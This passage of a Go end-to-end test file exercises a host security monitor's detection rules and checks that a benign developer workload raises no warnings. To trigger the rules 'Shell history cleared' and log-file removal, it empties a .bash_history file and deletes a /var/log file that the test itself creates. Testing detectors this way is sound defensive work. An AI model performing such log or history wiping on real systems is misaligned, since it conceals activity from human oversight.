				p := "/var/log/otelsec-e2e-" + tok + "-2.log"
				writeFile(t, p, "line\n", 0o640)
				return h.run(exec.Command("rm", p)), with(map[string]any{schema.AttrFilePath: p,
					schema.AttrProcessExecutableName: "rm"})
			}},
		{name: "shell history emptied", rule: "Shell history cleared",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				p := filepath.Join(h.work, ".bash_history")
				writeFile(t, p, "ls\n", 0o600)
				return h.run(exec.Command("cp", "/dev/null", p)), with(map[string]any{schema.AttrFilePath: p})
			}},
		{name: "package manager install", rule: "Package installed or removed",
			do: func(t *testing.T, h *harness) (int, map[string]any) {
				if _, err := exec.LookPath("apt-get"); err != nil {
					t.Skip("no apt-get")
				}
				// --simulate changes nothing; the install verb is what the rule reads.
				return h.runQuiet(exec.Command("apt-get", "--simulate", "install", "otelsec-e2e-no-such-package")),
					with(map[string]any{schema.AttrProcessExecutableName: "apt-get"})
			}},
	}, parityBehaviours(tok, with)...)
}

// octal accepts a file.mode as "4755" or "04755": the contract fixes octal, not the padding.
func octal(mode int) func(any) bool {
	return func(v any) bool {
		s, ok := v.(string)
		return ok && strings.TrimLeft(s, "0") == strings.TrimLeft(fmt.Sprintf("%o", mode), "0")
	}
}

func nonLoopbackIPv4(t *testing.T) string {
	t.Helper()
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && !n.IP.IsLoopback() && n.IP.To4() != nil {
			return n.IP.String()
		}
	}
	t.Skip("no non-loopback IPv4 address on this machine")
	return ""
}

// benignWorkload runs what a developer's box does all day below a parent named
// benign-workload, and requires that nothing in that subtree fires at Warning or above.
func benignWorkload(t *testing.T, h *harness) {
	if _, err := exec.LookPath("go"); err != nil {
		t.Skip("no go toolchain on PATH")
	}
	dir, err := os.MkdirTemp("", "otelsec-benign-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	writeFile(t, filepath.Join(dir, "go.mod"), "module example.com/benign\n\ngo 1.22\n", 0o644)
	writeFile(t, filepath.Join(dir, "main.go"), `package main

import "fmt"

func sum(xs ...int) (s int) {
	for _, x := range xs {
		s += x
	}
	return s
}

func main() { fmt.Println(sum(1, 2, 3)) }
`, 0o644)
	writeFile(t, filepath.Join(dir, "main_test.go"), `package main

import "testing"

func TestSum(t *testing.T) {
	if sum(1, 2, 3) != 6 {
		t.Fatal("sum")
	}
}
`, 0o644)
	script := `set -u
cd "$1"
go build -o ./benign . && ./benign
go vet ./...
go test -count=1 ./...
git init -q .
git add -A
git commit -q -m "initial commit"
git log --oneline
git status --short
apt-cache policy bash >/dev/null || true
ps aux >/dev/null
ls -la /etc >/dev/null
cat /etc/hostname /etc/os-release >/dev/null
id; uname -a; df -h / >/dev/null
for i in 1 2 3; do echo "line $i"; done | sort -r | grep -c line
sed -n 1p /etc/passwd >/dev/null
find /etc -maxdepth 1 -name '*.conf' >/dev/null
tar -czf "$1/src.tgz" -C "$1" main.go && rm "$1/src.tgz"
# routine administration that changes nothing
dpkg -l >/dev/null 2>&1 || true
dpkg --audit >/dev/null 2>&1 || true
run-parts --test /etc/cron.daily >/dev/null 2>&1 || true
logrotate -d /etc/logrotate.conf >/dev/null 2>&1 || true
update-alternatives --display editor >/dev/null 2>&1 || true
getent passwd root >/dev/null
locale >/dev/null 2>&1 || true
man -w ls >/dev/null 2>&1 || true
ip addr >/dev/null 2>&1 || true
ss -tln >/dev/null 2>&1 || true
free -m >/dev/null 2>&1 || true
top -bn1 >/dev/null 2>&1 || true
find /var/log -name '*.gz' >/dev/null 2>&1 || true
grep -c root /etc/group >/dev/null
ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub >/dev/null 2>&1 || true
/usr/bin/python3 -c 'import json, os; print(json.dumps(sorted(os.listdir("/etc"))[:3]))' >/dev/null 2>&1 || true
perl -e 'print "ok\n"' >/dev/null
openssl version >/dev/null 2>&1 || true
gzip -c /etc/hostname | gunzip >/dev/null
`
	writeFile(t, filepath.Join(dir, "work.sh"), script, 0o644)
	root := h.copyExecutable(h.helper, "benign-workload")
	cmd := h.helperCmd(root, "exec-script", "/bin/bash", filepath.Join(dir, "work.sh"), dir)
	cmd.Env = append(cmd.Env, "GOTOOLCHAIN=local", "GOPROXY=off", "GOFLAGS=-mod=mod",
		"GIT_AUTHOR_NAME=e2e", "GIT_AUTHOR_EMAIL=e2e@example.com",
		"GIT_COMMITTER_NAME=e2e", "GIT_COMMITTER_EMAIL=e2e@example.com")
	var out strings.Builder
	cmd.Stdout, cmd.Stderr = &out, &out
	start := time.Now()
	lostBefore := h.lostEvents()
	if err := cmd.Run(); err != nil {
		t.Fatalf("benign workload failed: %v\n%s", err, out.String())
	}
	t.Logf("benign workload ran in %s", time.Since(start).Round(time.Millisecond))
	if lost := h.lostEvents() - lostBefore; lost > 0 {
		t.Logf("the receiver lost %d events meanwhile: a violation could have been missed", lost)
	}
	time.Sleep(50 * flushInterval)

	inWorkload := func(v violation) bool {
		if v.str(schema.AttrProcessExecutableName) == "benign-workload" {
			return true
		}
		return listHas("benign-workload")(v.attrs[schema.AttrProcessAncestorsExecName])
	}
	all := h.col.find(inWorkload)
	// The workload runs the program it built from /tmp, a Notice: seeing it proves the
	// receiver saw the workload and traced its ancestry, so the check below can fail.
	seen := false
	for _, v := range all {
		seen = seen || (v.has("Program executed from a temporary directory") &&
			v.str(schema.AttrProcessExecutablePath) == filepath.Join(dir, "benign"))
	}
	if !seen {
		t.Fatalf("the workload's own Notice (./benign run from /tmp) never arrived: nothing below would be checked; saw %v", all)
	}
	for _, v := range all {
		if atLeastWarning(v) {
			t.Errorf("benign workload fired %v", v)
		} else {
			t.Logf("below Warning (allowed): %v", v)
		}
	}
}
